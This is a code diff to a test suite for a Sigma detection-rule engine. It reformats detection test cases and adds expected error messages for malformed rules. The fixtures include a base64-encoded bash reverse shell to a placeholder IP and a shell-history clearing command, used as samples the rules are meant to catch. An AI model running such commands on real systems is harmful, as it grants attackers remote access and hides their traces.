@@ -147,7 +147,8 @@ CASES = [
      exec_item("/bin/bash", "bash -c history -c"),
      exec_item("/bin/bash", "bash -c history")),
     ("Encoded Reverse Shell Argument",                         # base64offset|contains
-     exec_item("/bin/sh", "sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0IDA+JjE= | base64 -d"),
+     exec_item("/bin/sh",
+               "sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0IDA+JjE= | base64 -d"),
      exec_item("/bin/sh", "sh -c echo YmFzaCAtaQ== | base64 -d")),
     ("Encoded Reverse Shell Argument",                         # windash, exists
      exec_item("/usr/bin/python3", "python3 –c print(1)"),
@@ -523,7 +524,16 @@ def test_yaml_syntax_error_names_the_file(tmp_path, capsys):
     (rule_doc("sel:\n    Image: '/x'\ncondition: sel").replace(
         "tags:\n    - attack.execution\n    - attack.t1059.004", "tags: 5"), "invalid Sigma",
      None),
-    ("title: t\nlogsource: [a]\ndetection: x\n", "invalid Sigma", None),
+    ("title: t\nlogsource: [a]\ndetection: x\n", "invalid Sigma",
+     "logsource must be a mapping, not a list"),
+    (rule_doc("sel:\n    Image: '/x'\ncondition: sel").replace(
+        "product: linux", "product: [linux]"), "invalid Sigma",
+     "logsource.product must be text, not a list"),
+    (rule_doc("sel:\n    Image: '/x'\ncondition: 1.5"), "invalid Sigma",
+     "detection.condition must be text or a list of texts, not float"),
+    (rule_doc("sel:\n    Image: '/x'\ncondition: sel").replace(
+        "- attack.execution", "- {a: 1}"), "invalid Sigma",
+     "tags must be a list of texts, not a list holding {'a': 1}"),
     (rule_doc("sel:\n    Image: '/x'\ncondition: sel and nothere"), "invalid Sigma",
      "the condition names 'nothere', which is not a detection"),
     (rule_doc("sel:\n    Image|nosuch: '/x'\ncondition: sel"), "invalid Sigma", None),
